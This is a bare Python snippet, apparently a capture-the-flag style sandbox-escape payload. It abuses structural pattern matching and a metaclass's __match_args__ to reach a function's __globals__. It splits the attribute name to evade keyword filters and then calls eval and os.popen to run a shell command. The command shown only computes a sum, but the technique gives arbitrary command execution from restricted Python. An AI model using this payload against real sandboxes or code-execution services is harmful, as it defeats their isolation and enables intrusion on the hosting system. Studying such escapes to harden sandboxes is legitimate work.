class M(type):
    def __instancecheck__(c,o): return True
    __match_args__=property(lambda c: ("__glo"+"bals__",))
class Q(metaclass=M): pass
def f(): pass
match f:
    case Q(g): print(g["__builtins__"].eval("__import__('os').popen('expr 40 + 1001').read()"))
